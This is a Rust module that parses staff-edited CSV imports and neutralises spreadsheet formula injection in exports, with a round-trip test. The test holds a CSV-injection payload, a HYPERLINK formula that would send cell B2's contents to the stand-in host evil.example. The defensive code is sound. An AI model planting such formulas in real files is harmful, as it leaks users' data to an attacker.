//! CSV files that staff open and edit in a spreadsheet: reading them, with
//! every problem named by row and column (the services and events imports),
//! and writing them (exports, reports, sign-in sheets) so that no cell runs
//! as a formula.

use std::{borrow::Cow, fmt};

/// First characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as it is safe to write: one a spreadsheet would run as a formula
/// (`=HYPERLINK(…)`, `+39 011…`, `@SUM(…)`) gets a leading apostrophe, which
/// spreadsheets show as text. Plain numbers (`-7.68`) stay as they are.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(FORMULA_START) && cell.trim().parse::<f64>().is_err();
    if risky {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The reverse of [`neutralise`], for files the bot wrote and staff re-import.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

/// A CSV file being written: every cell goes through [`neutralise`].
pub struct Writer(csv::Writer<Vec<u8>>);

impl Writer {
    pub fn new() -> Writer {
        Writer(csv::Writer::from_writer(vec![]))
    }

    pub fn row<I, S>(&mut self, cells: I) -> anyhow::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<Cow<'_, str>> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned().into())
            .collect();
        self.0.write_record(cells.iter().map(|c| c.as_bytes()))?;
        Ok(())
    }

    pub fn finish(self) -> anyhow::Result<Vec<u8>> {
        Ok(self.0.into_inner()?)
    }
}

impl Default for Writer {
    fn default() -> Writer {
        Writer::new()
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct RowError {
    /// Line in the file (the header is row 1).
    pub row: usize,
    pub column: String,
    pub reason: String,
}

impl fmt::Display for RowError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.column.is_empty() {
            write!(f, "row {}: {}", self.row, self.reason)
        } else {
            write!(
                f,
                "row {}, column {}: {}",
                self.row, self.column, self.reason
            )
        }
    }
}

pub fn err(row: usize, column: &str, reason: impl Into<String>) -> RowError {
    RowError {
        row,
        column: column.to_owned(),
        reason: reason.into(),
    }
}

/// A parsed file: lower-cased headers and the records with their row numbers.
pub struct Sheet {
    headers: Vec<String>,
    records: Vec<(usize, Result<csv::StringRecord, String>)>,
}

/// One record, read by column name.
pub struct Row<'a> {
    headers: &'a [String],
    record: &'a csv::StringRecord,
}

impl<'a> Row<'a> {
    /// The value in `column`, or "" when the file has no such column.
    pub fn get(&self, column: &str) -> &'a str {
        self.headers
            .iter()
            .position(|h| h == column)
            .and_then(|i| self.record.get(i))
            .map(restore)
            .unwrap_or("")
    }

    /// (column, value) pairs.
    pub fn values(&self) -> impl Iterator<Item = (&'a str, &'a str)> {
        self.headers
            .iter()
            .map(String::as_str)
            .zip(self.record.iter().map(restore))
    }
}

impl Sheet {
    /// Rows that could not be read as CSV, as errors.
    pub fn malformed(&self) -> Vec<RowError> {
        self.records
            .iter()
            .filter_map(|(row, r)| {
                r.as_ref()
                    .err()
                    .map(|e| err(*row, "", format!("malformed CSV row: {e}")))
            })
            .collect()
    }

    /// The well-formed records with their row numbers.
    pub fn rows(&self) -> impl Iterator<Item = (usize, Row<'_>)> {
        self.records.iter().filter_map(|(row, r)| {
            r.as_ref().ok().map(|record| {
                (
                    *row,
                    Row {
                        headers: &self.headers,
                        record,
                    },
                )
            })
        })
    }
}

/// Reads UTF-8 CSV (a byte-order mark is allowed) whose header uses only
/// `known` columns and has every `required` one.
pub fn read(bytes: &[u8], known: &[String], required: &[&str]) -> Result<Sheet, Vec<RowError>> {
    let text = std::str::from_utf8(bytes).map_err(|e| {
        let line = bytes
            .iter()
            .take(e.valid_up_to())
            .filter(|b| **b == b'\n')
            .count()
            + 1;
        vec![err(
            line,
            "",
            "the file is not UTF-8 text; save it as \"CSV UTF-8\"",
        )]
    })?;
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut reader = csv::ReaderBuilder::new()
        .trim(csv::Trim::All)
        .flexible(false)
        .from_reader(text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .map_err(|e| vec![err(1, "", format!("cannot read the header: {e}"))])?
        .iter()
        .map(|h| h.trim().to_lowercase())
        .collect();
    let mut errors: Vec<RowError> = headers
        .iter()
        .filter(|h| !known.contains(h))
        .map(|h| err(1, h, "unknown column"))
        .collect();
    errors.extend(
        required
            .iter()
            .filter(|r| !headers.iter().any(|h| h == *r))
            .map(|r| err(1, r, "required column is missing")),
    );
    if !errors.is_empty() {
        return Err(errors);
    }
    let records = reader
        .records()
        .enumerate()
        .map(|(i, r)| (i + 2, r.map_err(|e| e.to_string())))
        .collect();
    Ok(Sheet { headers, records })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text_and_read_back_as_typed() {
        let attack = r#"=HYPERLINK("http://evil.example/?q="&B2,"Apri")"#;
        for (cell, written) in [
            (attack, format!("'{attack}")),
            ("+39 011 123456", "'+39 011 123456".to_owned()),
            ("-1+2", "'-1+2".to_owned()),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)".to_owned()),
            ("\tcmd", "'\tcmd".to_owned()),
            ("\rcmd", "'\rcmd".to_owned()),
            ("-7.68", "-7.68".to_owned()),
            ("Maria", "Maria".to_owned()),
            ("", String::new()),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
            assert_eq!(restore(&written), cell, "{cell:?}");
        }
        // An apostrophe someone typed before ordinary text stays.
        assert_eq!(restore("'ciao"), "'ciao");

        let mut w = Writer::new();
        w.row(["name", "note"]).unwrap();
        w.row([attack, "ok"]).unwrap();
        let bytes = w.finish().unwrap();
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(!text.lines().any(|l| l.starts_with('=')), "{text}");
        let sheet = read(&bytes, &["name".into(), "note".into()], &["name"]).unwrap();
        let (_, row) = sheet.rows().next().unwrap();
        assert_eq!(row.get("name"), attack);
    }
}
